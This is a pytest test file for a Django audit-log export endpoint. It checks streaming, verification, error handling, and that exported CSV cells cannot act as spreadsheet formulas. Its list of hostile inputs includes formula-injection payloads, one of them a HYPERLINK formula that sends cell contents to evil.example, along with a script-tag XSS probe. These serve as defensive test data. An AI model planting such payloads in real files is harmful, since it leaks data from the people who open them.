"""Exporting the trail: complete, streamed, and harmless in a spreadsheet (F68)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from audit import export, sealing
from audit.actors import Actor
from audit.models import Event
from tests.audit.asking import Asking, write
from tests.factories import make_organisation

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1",
    "＠x",
    'a "quoted" text, with, commas\nand lines\r\n',
    "'=1",
    "ünïcödé 🙂 ‮",
    "<script>alert(1)</script>",
]


@pytest.fixture
def asking() -> Asking:
    return Asking(make_organisation())


def text_of(answer: Any) -> str:
    assert answer.status_code == 200, answer.content
    assert answer.streaming
    return b"".join(answer).decode()


def rows_of(text: str) -> list[dict[str, str]]:
    """As a spreadsheet reads it."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.covers("F68")
@pytest.mark.parametrize("text", HOSTILE, ids=[f"hostile-{n}" for n in range(len(HOSTILE))])
def test_no_cell_of_a_csv_is_a_formula(asking: Asking, text: str) -> None:
    write(
        asking.organisation, text, reason=text, before={text: text}, after={"x": [text]},
        actor=Actor("person", text, text), request_id=text, path=text,
    )  # fmt: skip
    answer = asking.get("/export", format="csv", event="thing_done")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    (row,) = rows_of(text_of(answer))
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠"))
    for column in ("reason", "subject", "user"):
        assert row[column] in (text, f"'{text}")
    assert json.loads(row["after"]) == {"x": [text]}


def test_json_is_whole_and_exact(asking: Asking) -> None:
    for text in HOSTILE:
        write(asking.organisation, text, reason=text)
    answer = asking.get("/export", event="thing_done")
    assert answer["Content-Type"] == "application/json"
    assert answer["Content-Disposition"].startswith('attachment; filename="audit-')
    assert answer["Cache-Control"] == "no-store"
    events = json.loads(text_of(answer))["events"]
    assert [event["reason"] for event in reversed(events)] == HOSTILE


def test_long_trails_come_in_pieces(asking: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 7)
    for number in range(23):
        write(asking.organisation, f"n{number}", reason="r" * 900)
    expected = [f"n{number}" for number in reversed(range(23))]
    assert [
        e["subject"]
        for e in json.loads(text_of(asking.get("/export", event="thing_done")))["events"]
    ] == expected
    text = text_of(asking.get("/export", format="csv", event="thing_done"))
    assert [row["subject"] for row in rows_of(text)] == expected


def test_an_empty_one_is_well_formed(asking: Asking) -> None:
    assert json.loads(text_of(asking.get("/export", event="no_such"))) == {"events": []}
    assert rows_of(text_of(asking.get("/export", event="no_such", format="csv"))) == []


def test_with_verification(asking: Asking) -> None:
    write(asking.organisation, "sealed")
    sealing.seal()
    write(asking.organisation, "fresh")
    answer = asking.get("/export", event="thing_done", verify="true")
    events = json.loads(text_of(answer))["events"]
    assert [(e["subject"], e["verified"]) for e in events] == [("fresh", None), ("sealed", True)]
    answer = asking.get("/export", event="thing_done", verify="true", format="csv")
    assert [row["verified"] for row in rows_of(text_of(answer))] == ["", "true"]
    without = json.loads(text_of(asking.get("/export", event="thing_done")))["events"]
    assert "verified" not in without[0]


def test_is_itself_an_event_and_not_in_the_file(asking: Asking) -> None:
    text = text_of(asking.get("/export", format="csv", success="true"))
    event = Event.objects.filter(organisation=asking.organisation.pk).latest("id")
    assert (event.action, event.actor_kind) == ("audit_exported", "token")
    assert event.after == {"format": "csv", "filters": "success=true"}
    assert event.path == "/api/audit/export"
    assert "audit_exported" not in text


def test_asking_for_the_head_exports_nothing(asking: Asking) -> None:
    before = Event.objects.count()
    answer = Client().head(
        "/api/audit/export?format=csv",
        HTTP_HOST=asking.organisation.instance_host,
        HTTP_X_API_TOKEN=asking.secret,
    )
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert Event.objects.count() == before


@pytest.mark.parametrize(
    ("query", "code"),
    [({"format": "xml"}, "invalid_format"), ({"verify": "maybe"}, "invalid_verify")],
    ids=["format", "verify"],
)
def test_mistakes(asking: Asking, query: dict[str, str], code: str) -> None:
    answer = asking.get("/export", **query)
    assert (answer.status_code, answer.json()["code"]) == (400, code)


def test_a_client_that_accepts_only_csv_is_served(asking: Asking) -> None:
    answer = asking.client.get(
        "/api/audit/export?format=csv",
        HTTP_HOST=asking.organisation.instance_host,
        HTTP_X_API_TOKEN=asking.secret,
        HTTP_ACCEPT="text/csv",
    )
    assert answer.status_code == 200


def test_a_failure_on_the_way_leaves_no_whole_file(
    asking: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Half an export must not pass for all of it."""
    monkeypatch.setattr(export, "PAGE", 5)
    for number in range(12):
        write(asking.organisation, f"n{number}")
    answer = asking.get("/export", event="thing_done")
    received = []
    monkeypatch.setattr(export, "seals_of", _broken)
    with pytest.raises(OSError, match="gone"):
        for piece in answer:
            received.append(piece)
    with pytest.raises(ValueError, match="Expecting"):
        json.loads(b"".join(received))


def _broken(_: object) -> dict[int, Any]:
    raise OSError("gone")
